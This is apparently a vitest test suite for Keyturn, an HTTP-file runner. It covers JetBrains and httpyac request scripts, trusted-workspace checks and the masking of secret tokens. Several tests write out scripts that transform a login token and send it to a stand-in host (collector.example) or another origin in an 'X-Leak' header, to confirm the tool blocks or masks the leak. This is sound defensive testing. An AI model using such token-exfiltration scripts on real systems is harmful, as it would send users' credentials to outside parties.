import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHttpClient } from '../../src/http/client.ts';
import { parseHttpFile } from '../../src/httpfile/parse/parse.ts';
import type { Dialect } from '../../src/httpfile/parse/tree.ts';
import type { RunOptions } from '../../src/run/engine.ts';
import { Imports } from '../../src/run/session/imports.ts';
import { Session } from '../../src/run/session/session.ts';
import { SessionMemory } from '../../src/run/session/sessionMemory.ts';
import type { ScriptLine } from '../../src/run/scripts/scriptParts.ts';
import type { ScriptRunner } from '../../src/script/runner.ts';
import { httpServer } from '../http/support.ts';
import { memoryFiles } from '../httpfile/memoryFiles.ts';
import { runnerOf } from '../script/support.ts';
import { engineOver, type EngineSetup, runOptions } from './support.ts';

let runner: ScriptRunner;

beforeAll(async () => {
  runner = await runnerOf();
});
afterAll(() => runner.dispose());

const TOKEN = 'tok-3f9a8b7c6d5e4f3a2b1c';

interface Received {
  readonly method: string;
  readonly url: string;
  readonly headers: Readonly<Record<string, string | string[] | undefined>>;
  readonly body: string;
}

/** Answers /login with a token, and everything else with what it got. */
async function server() {
  const received: Received[] = [];
  const { url } = await httpServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      response.setHeader('content-type', 'application/json');
      response.end(
        request.url === '/login'
          ? JSON.stringify({ access_token: TOKEN, user: { id: 7 } })
          : JSON.stringify({ got: body }),
      );
    });
  });
  return { base: new URL(url).origin, received };
}

function session(
  text: string,
  {
    dialect = 'jetbrains',
    options = {},
    environment = {},
    setup = {},
    scripts = true,
  }: {
    readonly dialect?: Dialect;
    readonly options?: Partial<RunOptions>;
    readonly environment?: Readonly<Record<string, string>>;
    readonly setup?: Partial<EngineSetup>;
    readonly scripts?: boolean;
  } = {},
) {
  const logged: ScriptLine[] = [];
  const parts = { runner: () => Promise.resolve(runner), log: (line: ScriptLine) => logged.push(line) };
  const { engine, redactor } = (() => {
    const made = engineOver({ profiles: [], ...setup, ...(scripts && { scripts: parts }) });
    return { engine: made.engine, redactor: made.options.redactor };
  })();
  const memory = new SessionMemory();
  const run = new Session({
    engine,
    memory,
    imports: new Imports(memoryFiles({})),
    variables: {},
    tokenName: null,
    confirmed: false,
    rules: { strict: false, skipsDisabled: true },
    dependencies: true,
    now: () => 0,
  });
  const tree = parseHttpFile(text, { dialect });
  const file = {
    file: '/w/a.http',
    tree,
    environment: new Map(Object.entries(environment)),
    options: { ...runOptions, ...options },
  };
  const send = async (at = 0, from = file.file) => {
    const node = tree.requests[at];
    if (node === undefined) throw new Error('no such request in the text');
    return run.run({ ...file, file: from }, node);
  };
  return { send, logged, memory, redactor, run };
}

describe('scripts of JetBrains', () => {
  it('sets variables before the request, and tests its response', async () => {
    const { base, received } = await server();
    const { send, logged } = session(
      [
        'POST {{base}}/x?id={{id}}',
        'X-Sign: {{sign}}',
        '',
        '{"a": "{{id}}"}',
        '',
        '> {%',
        'client.test("is right", () => client.assert(response.status === 200));',
        'client.test("is wrong", () => client.assert(response.body.got === "no", "got " + response.body.got));',
        'client.log("done", request.variables.get("id"));',
        '%}',
      ]
        .join('\n')
        .replace(
          /^/,
          [
            '< {%',
            '  request.variables.set("id", 7);',
            '  request.variables.set("sign", crypto.md5().updateWithText(request.url.getRaw() + request.environment.get("salt")).digest().toHex());',
            '%}',
            '',
          ].join('\n'),
        ),
      { environment: { base, salt: 's' } },
    );
    const { result, passed, outcome } = await send();
    expect(result.error).toBeNull();
    expect(received[0]).toMatchObject({ url: '/x?id=7', body: '{"a": "7"}' });
    expect(received[0]?.headers['x-sign']).toMatch(/^[0-9a-f]{32}$/);
    expect(result.tests).toEqual([
      { name: 'is right', passed: true, message: null, line: 10 },
      { name: 'is wrong', passed: false, message: 'got {"a": "7"}', line: 11 },
    ]);
    expect(result.notRun).toEqual([]);
    expect([outcome, passed]).toEqual(['succeeded', false]);
    expect(logged).toEqual([{ file: '/w/a.http', line: 9, level: 'log', text: 'done 7' }]);
  });

  it('keeps globals and global headers for later requests', async () => {
    const { base, received } = await server();
    const { send } = session(
      [
        `GET ${base}/a`,
        '',
        '> {% client.global.set("user", { id: 7 }); client.global.headers.set("X-All", "yes"); %}',
        '',
        '###',
        `GET ${base}/b?id={{user.id}}&all={{user}}`,
        '',
        '###',
        `GET ${base}/c`,
        'X-All: own',
      ].join('\n'),
    );
    expect((await send(1)).result.error).toMatchObject({ code: 'variable_unknown' });
    await send(0);
    expect((await send(1)).result.error).toBeNull();
    await send(2);
    expect(received.map(({ url, headers }) => [url, headers['x-all']])).toEqual([
      ['/a', undefined],
      ['/b?id=7&all=%7B%22id%22:7%7D', 'yes'],
      ['/c', 'own'],
    ]);
  });

  it('stops the request where the script before it fails, and names its line', async () => {
    const { base, received } = await server();
    const { send } = session(`< {%\n\n  throw new Error("no salt");\n%}\nGET ${base}/x`);
    const { result, outcome } = await send();
    expect(result.error).toMatchObject({
      code: 'script_failed',
      message: 'The script on line 3 failed: no salt',
    });
    expect([outcome, received.length]).toEqual(['failed', 0]);
  });

  it('fails the request where the script on its response fails', async () => {
    const { base } = await server();
    const { send } = session(`GET ${base}/x\n\n> {%\n  response.body.none.more;\n%}`);
    const { result, passed } = await send();
    expect(result.response?.status).toBe(200);
    expect(result.error?.message).toMatch(/^The script on line 4 failed: /);
    expect(passed).toBe(false);
  });

  it('runs scripts in files, and names both places', async () => {
    const { base } = await server();
    const text = `GET ${base}/x\n\n> ./check.js`;
    const good = session(text, { setup: { files: { '/w/check.js': 'client.test("file", () => {})' } } });
    expect((await good.send()).result.tests).toMatchObject([{ name: 'file', passed: true, line: 2 }]);
    const bad = session(text, { setup: { files: { '/w/check.js': '\nthrow new Error("no")' } } });
    expect((await bad.send()).result.error?.message).toBe(
      'The script on line 3 (./check.js, line 2) failed: no',
    );
    const none = session(text);
    expect((await none.send()).result.error).toMatchObject({ code: 'file_unreadable' });
  });

  it('refuses Lua by name', async () => {
    const { send } = session('< ./sign.lua\nGET https://example.com/', { dialect: 'kulala' });
    expect((await send()).result.error).toMatchObject({
      code: 'unsupported',
      message: 'Keyturn does not run Lua: the script on line 1.',
    });
  });

  it('changes headers, and may ask not to send the request (kulala)', async () => {
    const { base, received } = await server();
    const set = session(
      `< {% request.headers.set("X-New", "{{$token viewer}}") %}\nGET ${base}/x\nX-Old: a`,
      {
        dialect: 'kulala',
      },
    );
    expect((await set.send()).result.error).toBeNull();
    // What a script writes is sent as it is.
    expect(received[0]?.headers).toMatchObject({ 'x-new': '{{$token viewer}}', 'x-old': 'a' });
    const skipped = session(`< {% request.skip() %}\nGET ${base}/x`, { dialect: 'kulala' });
    expect((await skipped.send()).outcome).toBe('skipped');
    expect(received).toHaveLength(1);
  });
});

describe('scripts of httpyac', () => {
  it('exports variables, changes the request, works out expressions and tests', async () => {
    const { base, received } = await server();
    const { send } = session(
      [
        '@count = 2',
        '{{',
        '  exports.user = { id: 7, tags: ["a", "b"] };',
        '  exports.extra = { "X-One": 1, "X-Two": "2" };',
        '  request.headers["X-Made"] = request.url.length > 5 ? "yes" : "no";',
        '}}',
        `POST ${base}/x?tags={{user.tags.join("-")}}&n={{Number(count) + 1}}`,
        '...extra',
        '',
        '{"id": {{user.id}}}',
        '',
        '{{',
        '  test.status(200);',
        '  test("got it", () => assert.equal(JSON.parse(response.parsedBody.got).id, 7));',
        '}}',
      ].join('\n'),
      { dialect: 'httpyac' },
    );
    const { result, passed } = await send();
    expect(result.error).toBeNull();
    expect(received[0]).toMatchObject({ url: '/x?tags=a-b&n=3', body: '{"id": 7}' });
    expect(received[0]?.headers).toMatchObject({ 'x-made': 'yes', 'x-one': '1', 'x-two': '2' });
    expect(result.tests.map((test) => test.passed)).toEqual([true, true]);
    expect(passed).toBe(true);
  });

  it('runs blocks for every request', async () => {
    const { base, received } = await server();
    const { send } = session(
      ['{{+', '  exports.stamp = "s1";', '}}', '', '###', `GET ${base}/a?{{stamp}}`].join('\n'),
      { dialect: 'httpyac' },
    );
    expect((await send()).result.error).toBeNull();
    expect(received[0]?.url).toBe('/a?s1');
  });

  it('reads the response of the request before, in expressions and blocks', async () => {
    const { base, received } = await server();
    const { send } = session(
      [
        `GET ${base}/login`,
        '',
        '###',
        '{{',
        '  exports.status = response.statusCode;',
        '}}',
        `GET ${base}/{{response.parsedBody.user.id}}?{{status}}`,
        '',
        '###',
        `GET ${base}/a?{{response.parsedBody.got === ""}}`,
      ].join('\n'),
      { dialect: 'httpyac' },
    );
    expect((await send(1)).result.error).toMatchObject({ code: 'script_failed' });
    for (const at of [0, 1, 2]) expect((await send(at)).result.error).toBeNull();
    expect(received.map(({ url }) => url)).toEqual(['/login', '/7?200', '/a?true']);
  });

  it('leaves the name "response" to a variable of the file', async () => {
    const { base, received } = await server();
    const { send } = session(
      ['@response = mine', `GET ${base}/login`, '', '###', `GET ${base}/{{response.toUpperCase()}}`].join(
        '\n',
      ),
      { dialect: 'httpyac' },
    );
    for (const at of [0, 1]) expect((await send(at)).result.error).toBeNull();
    expect(received[1]?.url).toBe('/MINE');
  });

  it('keeps a token of the response before where it may go', async () => {
    const { base } = await server();
    const { send, redactor } = session(
      [
        `GET ${base}/login`,
        '',
        '###',
        'GET http://collector.example/x',
        'X-Token: {{response.parsedBody.access_token.slice(4)}}',
      ].join('\n'),
      { dialect: 'httpyac' },
    );
    expect((await send(0)).result.error).toBeNull();
    expect((await send(1)).result.error).toMatchObject({ code: 'insecure_origin' });
    expect(redactor.mask(TOKEN.slice(4))).not.toContain(TOKEN.slice(4));
  });

  it('says which expression failed, and sends nothing', async () => {
    const { base, received } = await server();
    const { send } = session(`GET ${base}/a?{{none.field}}`, { dialect: 'httpyac' });
    expect((await send()).result.error).toMatchObject({
      code: 'script_failed',
      message: "{{none.field}} on line 1 failed: 'none' is not defined",
    });
    expect(received).toEqual([]);
  });
});

describe('where no script runs', () => {
  it('refuses the request in an untrusted workspace, and leaves the handler out', async () => {
    const { base, received } = await server();
    const before = session(`< {% request.variables.set("a", 1) %}\nGET ${base}/x`, {
      options: { trusted: false },
    });
    expect((await before.send()).result.error).toMatchObject({
      code: 'untrusted_workspace',
      message: 'Keyturn runs the script on line 1 only in a trusted workspace.',
    });
    const after = session(`GET ${base}/x\n\n> {% client.test("t", () => {}) %}`, {
      options: { trusted: false },
    });
    const { result } = await after.send();
    expect(result.tests).toEqual([]);
    expect(result.notRun).toMatchObject([{ kind: 'test', text: 't' }]);
    const expression = session(`GET ${base}/x?{{[1].length + 1}}`, {
      dialect: 'httpyac',
      options: { trusted: false },
    });
    expect((await expression.send()).result.error).toMatchObject({ code: 'untrusted_workspace' });
    expect(received).toHaveLength(1);
  });

  it('refuses it where there is no runner', async () => {
    const { send } = session('< {% request.variables.set("a", 1) %}\nGET https://example.com', {
      scripts: false,
    });
    expect((await send()).result.error).toMatchObject({ code: 'unsupported' });
  });
});

describe('tokens and scripts', () => {
  const login = (base: string, more: string) =>
    [
      '# @name login',
      `GET ${base}/login`,
      '',
      '> {%',
      '  client.global.set("token", response.body.access_token);',
      '  client.global.set("pieces", response.body.access_token.split("").reverse().join(""));',
      '  client.log(response.body.access_token);',
      '  client.test("t " + response.body.access_token, () => client.assert(false, response.body.access_token));',
      '%}',
      '',
      '###',
      more,
    ].join('\n');

  it('masks what a script made of a token, in log, tests and requests', async () => {
    const { base, received } = await server();
    const { send, logged, redactor } = session(
      login(base, `GET ${base}/x\nAuthorization: Bearer {{token}}\nX-Pieces: {{pieces}}`),
    );
    const first = await send(0);
    const second = await send(1);
    expect(received[1]?.headers['authorization']).toBe(`Bearer ${TOKEN}`);
    const reversed = Array.from(TOKEN).reverse().join('');
    expect(received[1]?.headers['x-pieces']).toBe(reversed);
    const shown = JSON.stringify([
      logged,
      first.result.tests,
      second.result.request,
      redactor.mask(`${TOKEN} ${reversed}`),
    ]);
    expect(shown).not.toContain(TOKEN);
    expect(shown).not.toContain(reversed);
  });

  it('keeps it from plain http elsewhere', async () => {
    const { base } = await server();
    const { send } = session(login(base, 'GET http://collector.example/x?{{pieces}}'));
    await send(0);
    expect((await send(1)).result.error).toMatchObject({ code: 'insecure_origin' });
  });

  it('leaves it behind on a redirect to another origin', async () => {
    const { base } = await server();
    const other = await server();
    const { url } = await httpServer((_request, response) => {
      response.writeHead(302, { location: `${other.base}/taken` }).end();
    });
    const { send } = session(login(base, `GET ${url}\nX-Custom: {{pieces}}`));
    await send(0);
    await send(1);
    expect(other.received.map(({ headers }) => headers['x-custom'])).toEqual([undefined]);
  });

  it('marks what a later script makes of it too', async () => {
    const { base } = await server();
    const { send, memory } = session(
      login(base, `< {% client.global.set("again", client.global.get("token").slice(4)) %}\nGET ${base}/x`),
    );
    await send(0);
    await send(1);
    const again = memory.scripts.globals.get('again');
    expect(again?.secret).toEqual({ kind: 'token', name: 'login' });
    expect(again?.sources.map(({ name }) => name)).toEqual(['login']);
  });

  it('marks what a script makes of the answer to a named request', async () => {
    const { base, received } = await server();
    const { send, memory, redactor } = session(
      [
        '# @name login',
        `GET ${base}/login`,
        '###',
        '{{',
        '  exports.made = "x" + login.access_token.slice(4); exports.id = login.user.id;',
        '}}',
        `GET ${base}/x?{{login.user.id + 1}}`,
        'X-Made: {{made}}',
      ].join('\n'),
      { dialect: 'httpyac' },
    );
    await send(0);
    expect((await send(1)).result.error).toBeNull();
    const made = `x${TOKEN.slice(4)}`;
    expect(received[1]).toMatchObject({ url: '/x?8', headers: { 'x-made': made } });
    expect(
      memory.scripts
        .ofFile('/w/a.http')
        .get('made')
        ?.sources.map(({ name }) => name),
    ).toEqual(['login']);
    expect(redactor.mask(made)).not.toContain(made);
  });

  describe.each([
    ['a header', 'request.headers.findByName("X-In").tryGetSubstitutedValue()', ''],
    ['a variable of the file', 'client.variables.file.get("t")', ''],
    ['a variable of the file with the name of a secret', 'client.variables.file.get("password")', ''],
    ['a variable that an earlier script set', 'request.variables.get("v")', 'X-In'],
  ])('a token of an answer that a script read from %s', (_what, read, set) => {
    const made = Array.from(TOKEN).reverse().join('');
    const text = (base: string, target: string) =>
      [
        '@t = {{login.response.body.$.access_token}}',
        '@password = {{login.response.body.$.access_token}}',
        '',
        '# @name login',
        `GET ${base}/login`,
        '###',
        ...(set === ''
          ? []
          : [
              `< {% request.variables.set("v", request.headers.findByName("${set}").tryGetSubstitutedValue()) %}`,
            ]),
        `< {% client.global.set("h", ${read}.split("").reverse().join("")) %}`,
        `GET ${base}/x`,
        'X-In: {{login.response.body.$.access_token}}',
        '###',
        `GET ${target}/take`,
        'X-Leak: {{h}}',
      ].join('\n');

    it('is asked about before another server gets it from another file', async () => {
      const { base, received } = await server();
      const other = await server();
      const asked: string[] = [];
      const { send } = session(text(base, other.base), {
        setup: {
          allowOrigin: ({ tokenName, origin }) => {
            asked.push(`${tokenName} ${origin}`);
            return Promise.resolve(asked.length === 1 ? 'refuse' : 'remember');
          },
        },
      });
      await send(0);
      expect((await send(1)).result.error).toBeNull();
      expect(received.map(({ url }) => url)).toEqual(['/login', '/x']);
      const { result } = await send(2, '/w/b.http');
      expect(result.error).toMatchObject({ code: 'origin_not_allowed' });
      expect(other.received).toEqual([]);
      await send(2, '/w/b.http');
      expect(asked).toEqual([`login ${other.base}`, `login ${other.base}`]);
      expect(other.received.map(({ headers }) => headers['x-leak'])).toEqual([made]);
    });

    it('is not sent over plain http', async () => {
      const { base } = await server();
      // It stands for every host but this computer.
      const other = await server();
      const proxy = { httpProxy: other.base, httpsProxy: null, noProxy: [] };
      const client = createHttpClient({ proxy, caCertificates: [] });
      const { send } = session(text(base, 'http://collector.example'), { setup: { client } });
      await send(0);
      await send(1);
      expect((await send(2)).result.error).toMatchObject({ code: 'insecure_origin' });
      expect(other.received).toEqual([]);
    });
  });

  it('lets no script that saw a secret say where the request goes', async () => {
    const { base, received } = await server();
    const { send } = session(
      `{{\n  request.url = "${base}/" + password;\n}}\nGET ${base}/x\nX-A: {{password}}`,
      { dialect: 'httpyac', environment: { password: 'correct-horse' } },
    );
    expect((await send()).result.error).toMatchObject({ code: 'script_failed' });
    expect(received).toEqual([]);
  });

  it('lets no script that saw a secret choose the method', async () => {
    const { base, received } = await server();
    const { send } = session(
      [
        '# @name login',
        `GET ${base}/login`,
        '###',
        "{{\n  request.method = 'M' + login.access_token;\n}}",
        `GET ${base}/x`,
      ].join('\n'),
      { dialect: 'httpyac' },
    );
    await send(0);
    const { result } = await send(1);
    expect(result.error).toMatchObject({
      code: 'script_failed',
      message: 'The script on line 4 changed the method, which a script that was given a secret may not.',
    });
    expect(JSON.stringify(result)).not.toContain(TOKEN);
    expect(received.map(({ url }) => url)).toEqual(['/login']);
  });

  it.each(['', 'GET /', 'PO\\nST', 'É', 'M'.repeat(41)])(
    'sends nothing by the method "%s"',
    async (method) => {
      const { base, received } = await server();
      const { send } = session(`{{\n  request.method = '${method}';\n}}\nGET ${base}/x`, {
        dialect: 'httpyac',
      });
      expect((await send()).result.error).toMatchObject({
        code: 'script_failed',
        message: 'The script on line 1 changed the method to a text that is none.',
      });
      expect(received).toEqual([]);
    },
  );

  it('lets a script that saw no secret choose any method', async () => {
    const { base, received } = await server();
    const { send } = session(`{{\n  request.method = 'REPORT';\n}}\nGET ${base}/x`, { dialect: 'httpyac' });
    expect((await send()).result.request?.method).toBe('REPORT');
    expect(received[0]?.method).toBe('REPORT');
  });

  it('masks a token that stands in the method', async () => {
    const { base } = await server();
    const { send } = session(
      `# @name login\nGET ${base}/login\n###\n{{\n  request.method = '${TOKEN}';\n}}\nGET ${base}/x`,
      { dialect: 'httpyac' },
    );
    await send(0);
    expect((await send(1)).result.request?.method).toMatch(/^•••.+•••$/);
  });

  it('lets no server hide a known method by a token of that name', async () => {
    const { url } = await httpServer((_request, response) => {
      response.setHeader('content-type', 'application/json');
      response.end('{"access_token": "UNSUBSCRIBE"}');
    });
    const { send, redactor } = session(`# @name login\nGET ${url}\n###\nUNSUBSCRIBE ${url}`);
    await send(0);
    expect(redactor.mask('UNSUBSCRIBE')).not.toBe('UNSUBSCRIBE');
    expect((await send(1)).result.request?.method).toBe('UNSUBSCRIBE');
  });

  it('shows a script no token, and of the request that was sent only what anyone sees', async () => {
    const { base } = await server();
    const { send, logged } = session(
      [
        '< {%',
        '  client.log(request.headers.findByName("Authorization").tryGetSubstitutedValue());',
        '%}',
        `GET ${base}/x`,
        'Authorization: Bearer {{$token viewer}}',
      ].join('\n'),
    );
    await send();
    expect(logged.map(({ text }) => text)).toEqual(['Bearer {{$token viewer}}']);
  });
});
